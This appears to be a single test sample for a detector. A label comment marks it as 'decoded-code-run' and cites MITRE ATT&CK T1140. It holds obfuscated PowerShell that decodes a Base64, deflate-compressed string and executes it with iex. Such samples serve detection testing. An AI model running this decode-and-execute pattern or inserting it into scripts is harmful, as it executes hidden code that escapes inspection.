# expect: decoded-code-run | source: MITRE ATT&CK T1140
sal a New-Object; iex (a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('Cy/KLEnV9S8tKSgtUVDKyy/JyMxLV8hILChIzStWyEgtSlUKp4oSAA=='), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd()
